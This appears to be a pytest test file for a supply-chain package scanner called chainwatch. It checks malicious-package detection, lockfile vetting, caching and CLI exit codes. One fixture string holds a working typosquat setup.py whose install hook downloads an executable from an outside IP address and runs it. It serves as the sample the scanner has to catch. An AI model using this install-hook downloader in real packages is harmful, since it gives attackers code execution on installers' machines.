"""The package analyzer inside ``chainwatch.scan`` and ``vet`` on lockfiles with --offline artifacts."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from chainwatch.options import ScanOptions
from tests.packages.helpers import npm_tgz, sdist, write

EVIL_SETUP = '''
from setuptools import setup
from setuptools.command.install import install
import os, urllib.request
class I(install):
    def run(self):
        urllib.request.urlretrieve("http://185.62.56.20/u.exe", os.getenv("TEMP") + "/u.exe")
        os.startfile(os.getenv("TEMP") + "/u.exe")
        install.run(self)
setup(name="colourama", version="0.4.7", cmdclass={"install": I})
'''


def test_scan_engine_attaches_package_facts_and_findings(tmp_path: Path) -> None:
    from chainwatch.engine import scan

    target = write(tmp_path, "colourama-0.4.7.tar.gz", sdist("colourama", "0.4.7", {"setup.py": EVIL_SETUP}))
    report = scan(target, ScanOptions(jobs=1))
    root = next(r for r in report.inventory if r.path == target.name)
    facts = root.features.get("package")
    assert facts and facts["ecosystem"] == "pypi-sdist" and facts["name"] == "colourama"
    assert report.verdict.value == "malicious"
    crit = [f for f in report.findings if f.severity.value == "critical"]
    assert crit and crit[0].path.startswith(f"{target.name}!/")
    assert crit[0].evidence["file"] == "setup.py" and crit[0].evidence["line"] > 0


def test_scan_engine_benign_npm_is_clean(tmp_path: Path) -> None:
    from chainwatch.engine import scan

    lib = "const os = require('os');\nmodule.exports = () => os.platform() + process.env.HOME;\n"
    target = write(tmp_path, "tiny-lib-1.0.0.tgz", npm_tgz("tiny-lib", "1.0.0", {"index.js": lib}))
    report = scan(target, ScanOptions(jobs=1))
    assert report.verdict.value == "clean", [f.to_dict() for f in report.findings]
    assert any("package" in r.features for r in report.inventory)


def _lock_fixture(tmp_path: Path) -> tuple[Path, Path]:
    art = tmp_path / "artifacts"
    art.mkdir()
    write(art, "colourama-0.4.7.tar.gz", sdist("colourama", "0.4.7", {"setup.py": EVIL_SETUP}))
    write(art, "tidy-utils-2.0.0.tar.gz", sdist("tidy-utils", "2.0.0", {
        "setup.py": "from setuptools import setup\nsetup(name='tidy-utils', version='2.0.0')\n",
        "tidy_utils/__init__.py": "def tidy(x):\n    return x.strip()\n"}))
    req = tmp_path / "requirements.txt"
    req.write_text("colourama==0.4.7  # pinned\ntidy-utils==2.0.0 \\\n    --hash=sha256:" + "0" * 64 + "\n")
    return req, art


def test_vet_offline_judges_each_package_and_resumes_from_cache(tmp_path: Path) -> None:
    from chainwatch.packages.vet import vet
    from chainwatch.store import open_store

    req, art = _lock_fixture(tmp_path)
    store = open_store(tmp_path / "cw.db")
    try:
        first = vet(req, offline_dir=art, store=store, jobs=1)
        by_name = {p["name"]: p for p in first.extra["packages"]}
        assert by_name["colourama"]["verdict"] == "malicious"
        assert by_name["tidy-utils"]["verdict"] == "clean"
        assert {p["status"] for p in first.extra["packages"]} == {"judged"}
        second = vet(req, offline_dir=art, store=store, jobs=1)
        assert {p["status"] for p in second.extra["packages"]} == {"cached"}
        assert {p["name"]: p["verdict"] for p in second.extra["packages"]} == \
            {p["name"]: p["verdict"] for p in first.extra["packages"]}
    finally:
        store.close()


def test_vet_cli_prints_table_and_exit_code(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from chainwatch.cli import main

    req, art = _lock_fixture(tmp_path)
    code = main(["vet", str(req), "--offline", str(art), "--db", str(tmp_path / "db.sqlite"), "--jobs", "1", "-q"])
    out = capsys.readouterr().out
    assert code == 1
    assert "colourama" in out and "malicious" in out
    code = main(["vet", str(req), "--offline", str(art), "--no-store", "--jobs", "1", "-q", "--format", "json"])
    doc = json.loads(capsys.readouterr().out)
    assert doc["command"] == "vet" and len(doc["packages"]) == 2


def test_vet_exits_2_when_a_package_could_not_be_vetted(tmp_path: Path,
                                                        capsys: pytest.CaptureFixture[str]) -> None:
    """A gate must not pass on packages nobody looked at: one missing artifact means exit 2."""
    from chainwatch.cli import main

    req, art = _lock_fixture(tmp_path)
    for f in art.iterdir():
        if "tidy" in f.name.replace("-", "_").lower():
            f.unlink()  # this package can no longer be fetched (offline mirror without it)
    req.write_text("tidy-utils==2.0.0\n")
    code = main(["vet", str(req), "--offline", str(art), "--no-store", "--jobs", "1", "-q"])
    captured = capsys.readouterr()
    assert code == 2, captured
    assert "NOT vetted" in captured.out and "could not be vetted" in captured.err
    code = main(["vet", str(req), "--offline", str(art), "--no-store", "--jobs", "1", "-q", "--allow-unvetted"])
    assert code == 0
